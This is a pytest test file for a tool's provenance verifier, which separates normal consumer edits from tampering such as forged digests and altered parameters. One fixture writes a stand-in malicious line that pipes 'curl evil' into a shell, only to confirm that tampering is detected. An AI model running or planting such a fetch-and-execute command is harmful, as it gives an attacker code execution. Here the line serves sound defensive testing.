"""`evobot verify` re-renders from the recorded inputs: edits are normal, tampering is caught."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from report_helpers import REPO_ROOT, make_template_repo, render_consumer

from bot.report.provenance import PROVENANCE_PATH
from bot.report.verify import IssueKind, verify_checkout


@pytest.fixture
def consumer(tmp_path: Path) -> Path:
    template, _ = make_template_repo(tmp_path / "template")
    dest = tmp_path / "consumer"
    render_consumer(template, dest, {"service_name": "billing"})
    return dest


def _kinds(root: Path) -> dict[str | None, IssueKind]:
    return {i.path: i.kind for i in verify_checkout(root).issues}


def test_fresh_render_verifies_clean(consumer: Path) -> None:
    report = verify_checkout(consumer)
    assert report.issues == []
    assert not report.tampered
    assert report.files_rendered == 4


def test_consumer_edits_are_reported_but_not_tampering(consumer: Path) -> None:
    (consumer / "src/billing/app.py").write_text('NAME = "billing-v2"\n')
    (consumer / "README.md").unlink()
    (consumer / "CHANGELOG.md").write_text("# Changelog\n\n- ours\n")
    (consumer / "src/billing/extra.py").write_text("X = 1\n")
    report = verify_checkout(consumer)
    assert not report.tampered
    assert {i.path: i.kind for i in report.issues} == {
        "src/billing/app.py": IssueKind.CONSUMER_EDIT,
        "README.md": IssueKind.CONSUMER_REMOVED,
        "CHANGELOG.md": IssueKind.SKIP_IF_EXISTS,
        "src/billing/extra.py": IssueKind.CONSUMER_ADDED,
    }
    edit = report.of(IssueKind.CONSUMER_EDIT)[0]
    assert edit.recorded == edit.rendered != edit.actual


def test_a_tampered_file_with_a_forged_digest_is_caught(consumer: Path) -> None:
    app = consumer / "src/billing/app.py"
    app.write_text("import os; os.system('curl evil | sh')\n")
    prov = consumer / PROVENANCE_PATH
    data = json.loads(prov.read_text())
    import hashlib

    forged = hashlib.sha256(app.read_bytes()).hexdigest()
    for subject in data["subject"]:
        if subject["name"] == "src/billing/app.py":
            subject["digest"]["sha256"] = forged
    prov.write_text(json.dumps(data, indent=2, sort_keys=True))
    report = verify_checkout(consumer)
    assert report.tampered
    mismatch = report.of(IssueKind.SUBJECT_MISMATCH)
    assert [i.path for i in mismatch] == ["src/billing/app.py"]
    assert mismatch[0].recorded == mismatch[0].actual == forged != mismatch[0].rendered
    assert "matches the file in the repository" in mismatch[0].detail


def test_provenance_inputs_that_disagree_with_evobot_yml_are_tampering(consumer: Path) -> None:
    prov = consumer / PROVENANCE_PATH
    data = json.loads(prov.read_text())
    data["predicate"]["buildDefinition"]["externalParameters"]["answersDigest"] = "0" * 64
    data["subject"] = [s for s in data["subject"] if s["name"] != "README.md"]
    prov.write_text(json.dumps(data))
    report = verify_checkout(consumer)
    assert report.tampered
    assert {(i.kind, i.path) for i in report.issues if i.tampering} == {
        (IssueKind.PARAMETER_MISMATCH, PROVENANCE_PATH),
        (IssueKind.SUBJECT_MISSING, "README.md"),
    }
    assert "answersDigest" in report.of(IssueKind.PARAMETER_MISMATCH)[0].detail


def test_unreadable_provenance_is_tampering(consumer: Path) -> None:
    (consumer / PROVENANCE_PATH).write_text("{ not json")
    report = verify_checkout(consumer)
    assert report.tampered
    assert [i.kind for i in report.issues] == [IssueKind.PROVENANCE_INVALID]


def _evobot(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-c", "from bot.cli import main; main()", *args],
        capture_output=True,
        text=True,
        cwd=REPO_ROOT,
        check=False,
    )


def test_cli_exit_codes(consumer: Path) -> None:
    (consumer / "README.md").write_text("# ours\n")
    ok = _evobot("verify", str(consumer), "--json")
    assert ok.returncode == 0, ok.stderr
    out = json.loads(ok.stdout)
    assert out["tampered"] is False
    assert [i["kind"] for i in out["issues"]] == ["consumer-edit"]

    (consumer / PROVENANCE_PATH).write_text("[]")
    bad = _evobot("verify", str(consumer))
    assert bad.returncode == 1
    assert "provenance-invalid" in bad.stdout
